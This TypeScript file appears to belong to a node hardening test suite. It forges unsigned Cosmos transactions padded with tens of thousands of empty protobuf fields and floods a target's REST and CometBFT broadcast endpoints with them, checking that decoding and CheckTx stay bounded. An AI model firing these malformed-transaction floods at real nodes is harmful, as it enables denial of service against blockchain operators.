/** Native transactions that nobody signed, of as many messages within messages as fit: what is read of one before its signature. */
import { create, toBinary } from '@bufbuild/protobuf'
import { encodeBech32 } from '../../../../core/bech32.ts'
import { concatBytes, EMPTY_BYTES, utf8ToBytes } from '../../../../core/bytes.ts'
import { hexToBytes } from '../../../../core/hex.ts'
import { parsePublicKey, publicKeyAddress } from '../../../../app/native/public-key.ts'
import { secp256k1, tx, txSigning } from '../../../../proto/index.ts'
import { type Assault, type Attack, isOver, leftMs, pump, scaled } from '../attack.ts'
import { askHttp } from '../wire.ts'

const { SignMode } = txSigning
const BYTES = 2
const field = (number: number, value: Uint8Array): Uint8Array =>
  concatBytes(Uint8Array.of((number << 3) | BYTES, value.length), value)
const empty = (number: number, count: number): Uint8Array =>
  concatBytes(...Array.from({ length: count }, () => field(number, EMPTY_BYTES)))

/** The point of the private key 1. */
const KEY = hexToBytes('0x0279be667ef9dcbbac55a06295ce870b07029bfcdb2dce28d959f2815b16f81798')
const publicKey = {
  typeUrl: '/cosmos.crypto.secp256k1.PubKey',
  value: toBinary(secp256k1.PubKeySchema, create(secp256k1.PubKeySchema, { key: KEY })),
}
const SIGNER = utf8ToBytes(encodeBech32(publicKeyAddress(parsePublicKey(publicKey))))

/** Its signature is `nonce`, so that no two are alike. */
const forge = (typeUrl: string, value: Uint8Array, mode: txSigning.SignMode, nonce: number): Uint8Array => {
  const signature = new Uint8Array(64).fill(1)
  new DataView(signature.buffer).setUint32(0, nonce)
  const body = create(tx.TxBodySchema, { messages: [{ typeUrl, value }] })
  const modeInfo = { sum: { case: 'single', value: { mode } } } as const
  const fee = { amount: [{ denom: 'anat', amount: '1000000000000000000' }], gasLimit: 10_000_000n }
  const authInfo = create(tx.AuthInfoSchema, { signerInfos: [{ publicKey, modeInfo }], fee })
  const bodyBytes = toBinary(tx.TxBodySchema, body)
  const authInfoBytes = toBinary(tx.AuthInfoSchema, authInfo)
  return toBinary(tx.TxRawSchema, create(tx.TxRawSchema, { bodyBytes, authInfoBytes, signatures: [signature] }))
}

/** Each with more than may be read, and with as much as may. */
const votes = [60_000, 8_100].map((count) => {
  const value = concatBytes(field(2, SIGNER), empty(3, count))
  return (nonce: number) => forge('/cosmos.gov.v1beta1.MsgVoteWeighted', value, SignMode.DIRECT, nonce)
})
const outputs = [60_000, 2_000].map((count) => {
  const value = concatBytes(field(1, field(1, SIGNER)), empty(2, count))
  return (nonce: number) => forge('/cosmos.bank.v1beta1.MsgMultiSend', value, SignMode.LEGACY_AMINO_JSON, nonce)
})
const ALL = [...votes, ...outputs]

const broadcast = async (assault: Assault): Promise<void> => {
  await pump(assault, { width: Math.max(2, scaled(assault, 8)) }, async (index) => {
    const raw = ALL[index % ALL.length]?.(index) ?? EMPTY_BYTES
    const body = JSON.stringify({ tx_bytes: Buffer.from(raw).toString('base64'), mode: 'BROADCAST_MODE_SYNC' })
    const limitMs = leftMs(assault) + 1_000
    const reply = await askHttp(`${assault.target.rest}/cosmos/tx/v1beta1/txs`, { body, limitMs })
    if (reply.failure !== undefined) return assault.tally.add(reply.failure)
    assault.tally.add(/"code":\d+/.exec(reply.text)?.[0] ?? `HTTP ${reply.status}`)
  })
}

const gossip = async (assault: Assault): Promise<void> => {
  await pump(assault, { width: Math.max(2, scaled(assault, 8)), count: scaled(assault, 400) }, async (index) => {
    const raw = ALL[index % ALL.length]?.(index) ?? EMPTY_BYTES
    const params = { tx: Buffer.from(raw).toString('base64') }
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'broadcast_tx_async', params })
    const { status, failure } = await askHttp(assault.target.comet, { body, limitMs: leftMs(assault) + 1_000 })
    if (!isOver(assault)) assault.tally.add(failure ?? `HTTP ${status}`)
  })
}

export const FORGERY_ATTACKS: readonly Attack[] = [
  {
    name: 'REST: forged transactions of thousands of fields, 8',
    seconds: 10,
    bounded: 'fields of a native transaction, of one that signs amino JSON',
    outcomes: /^("code":\d+|HTTP (400|429|503)|ECONNRESET|socket hang up|no answer in time)$/,
    run: broadcast,
  },
  {
    name: 'CometBFT: forged transactions of thousands of fields, 400',
    seconds: 10,
    bounded: 'fields of a native transaction, and the time of CheckTx at a stretch',
    outcomes: /^(HTTP (200|400|429|500|503)|ECONNRESET|socket hang up|no answer in time)$/,
    run: gossip,
  },
]
